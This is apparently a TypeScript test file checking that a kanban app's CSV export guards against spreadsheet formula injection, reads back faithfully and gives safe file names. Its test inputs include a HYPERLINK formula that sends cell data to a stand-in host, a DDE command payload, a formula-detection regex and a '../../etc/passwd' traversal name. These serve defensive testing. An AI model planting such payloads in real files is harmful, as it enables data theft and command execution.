import * as fc from "fast-check"
import { describe, expect, it } from "vitest"
import { apply } from "../../../shared/change/apply.ts"
import { csvLine, exportCsv, exportFileName, guardCell } from "../../../shared/export/csv.ts"
import { unguarded } from "../../../shared/import/csv/cells.ts"
import { parseCsv } from "../../../shared/import/csv/parse.ts"
import { importBoard } from "../../../shared/import/import-board.ts"
import { EMPTY_BOARD } from "../../../shared/model/board-view.ts"
import { cardOf, cardsByLane } from "../../../shared/model/card.ts"
import { liveLanes } from "../../../shared/model/lane.ts"
import { noPromises } from "../../../shared/promises/fold.ts"
import { seedTemplate } from "../../../shared/templates/seed-template.ts"
import { board, seededSource } from "../../support/arbitraries.ts"
import { cardPromise } from "../../support/card-promise.ts"

const NOW = Date.UTC(2026, 4, 4, 9, 30)
const PEOPLE = new Map([["user:ana", "Ana"]])
/** What Excel, LibreOffice and Sheets take for the beginning of a formula, blanks and quotes in front included. */
const DANGEROUS = /^[\s"'“”‘’\u200b\ufeff]*[=+\-@\t\r＝＋－＠]/

function rowsOf(text: string): readonly (readonly string[])[] {
  const rows = parseCsv(text, ",")
  if (!rows.ok) throw new Error("not a table")
  return rows.value.map((row) => row.cells)
}

describe("a table of cards", () => {
  it.each([
    ["=1+1"],
    ["+49 30"],
    ["-5"],
    ["@sum"],
    ["\t=1"],
    ["\r=1"],
    ["  =1"],
    ['"=1'],
    ["'=1"],
    ["＝1"],
    ["\u200b=1"],
    ["\ufeff=1"],
    ["\u00a0=1"],
    ['=HYPERLINK("https://evil.example?"&A1,"go")'],
    ["=cmd|' /C calc'!A0"],
    ["|cmd"],
    ["%0a=1"],
  ])("guards %j", (cell) => {
    expect(guardCell(cell)).toBe(`'${cell}`)
    expect(unguarded(guardCell(cell))).toBe(cell)
  })

  it.each([["plain"], [""], ["1"], ["a=b"], ["it's - fine"], ["’s avonds"], ["(=1)"]])("leaves %j as it is", (cell) => {
    expect(guardCell(cell)).toBe(cell)
  })

  it("never begins a cell with what a spreadsheet would run, whatever people wrote", () => {
    const nasty = fc.string({
      unit: fc.constantFrom(
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "\n",
        " ",
        '"',
        "'",
        "＝",
        "\u200b",
        "\ufeff",
        "a",
        ",",
        ";",
        "|",
      ),
      maxLength: 6,
    })
    fc.assert(
      fc.property(fc.array(fc.oneof(nasty, fc.string()), { minLength: 1, maxLength: 5 }), (cells) => {
        const [row] = rowsOf(csvLine([...cells, "end"]))
        for (const cell of row ?? []) {
          const rest = cell.startsWith("'") ? "" : cell
          expect(rest).not.toMatch(DANGEROUS)
        }
      }),
      { numRuns: 3_000 },
    )
  })

  it("is read back cell by cell as it was", () => {
    const cell = fc.oneof(fc.string(), fc.constantFrom('a"b', "a,b", "a\nb", "a\r\nb", "=1", " a ", "a\rb"))
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (rows) => {
        fc.pre(rows.every((row) => row.some((words) => words !== "")))
        const text = rows.map(csvLine).join("")
        fc.pre(!/^sep=/i.test(text))
        expect(rowsOf(text).map((row) => row.map(unguarded))).toEqual(rows)
      }),
      { numRuns: 1_000 },
    )
  })

  it("has one row per live card of any board, and as many cells as columns in each", () => {
    fc.assert(
      fc.property(board(20), fc.boolean(), (view, archived) => {
        const [header, ...rows] = rowsOf(exportCsv(view, noPromises(), PEOPLE, { now: NOW, archived }))
        const expected = [...view.cards.values()].filter((card) => archived || card.archived !== true)
        expect(rows).toHaveLength(expected.length)
        for (const row of rows) expect(row).toHaveLength(header!.length)
      }),
      { numRuns: 100 },
    )
  })

  it("says who is accountable, how long a card has waited, and what is ticked", () => {
    const view = seedTemplate("plain-kanban", seededSource(NOW))!.changes.reduce(apply, EMPTY_BOARD)
    const [id] = [...view.cards].find(([, registers]) => String(registers.title).startsWith("Minutes"))!
    const promises = noPromises()
    promises.cards[id] = cardPromise(NOW, "user:ana", {
      createdAt: NOW - 7_200_000,
      enteredLaneAt: NOW - 5_400_000,
      accountable: "user:ana" as never,
      accountableSince: NOW,
    })
    const [header, ...rows] = rowsOf(exportCsv(view, promises, PEOPLE, { now: NOW, bom: false }))
    const row = rows.find(([first]) => first === id)!
    const cells = Object.fromEntries(header!.map((name, i) => [name, row[i]]))
    expect(cells).toMatchObject({
      lane: "To be checked",
      accountable: "Ana",
      "checks done": "1",
      "checks total": "3",
      created: new Date(NOW - 7_200_000).toISOString(),
      "age in lane (hours)": "1",
      crew: "Maker: Nils; Reviewer: Aya",
    })
  })

  it("begins with a byte order mark when Excel shall read it", () => {
    expect(exportCsv(EMPTY_BOARD, noPromises(), PEOPLE, { now: NOW, bom: true }).charCodeAt(0)).toBe(0xfeff)
    expect(exportCsv(EMPTY_BOARD, noPromises(), PEOPLE, { now: NOW })).toMatch(/^id,lane,title,.*\r\n$/)
  })

  it("can be imported again: lanes, cards, labels, next steps and reasons come back", () => {
    const before = seedTemplate("product-team", seededSource(NOW))!.changes.reduce(apply, EMPTY_BOARD)
    const text = exportCsv(before, noPromises(), PEOPLE, { now: NOW, bom: true })
    const result = importBoard("csv", text, seededSource(NOW))
    if (!result.ok) throw new Error(result.error.words)
    const after = result.value.seed.changes.reduce(apply, EMPTY_BOARD)
    const outline = (view: typeof before) =>
      liveLanes(view)
        .map((lane) => ({
          lane: lane.name,
          cards: (cardsByLane(view).get(lane.id) ?? []).map((id) => {
            const { title, next, due, severity, blocked } = cardOf(id, view.cards.get(id)!)
            return { title, next, due, severity, blocked }
          }),
        }))
        .filter(({ cards }) => cards.length > 0)
    expect(outline(after)).toEqual(outline(before))
    expect(result.value.report.lost).toEqual([])
  })

  it.each([
    ["Ward 4 / night", "Ward-4-night.csv"],
    ["../../etc/passwd", "etc-passwd.csv"],
    ["Fête 🎉", "Fête.csv"],
    ["***", "board.csv"],
  ])("of the board %j is called %j", (name, file) => {
    expect(exportFileName({ ...EMPTY_BOARD, meta: { name } }, "csv")).toBe(file)
  })
})
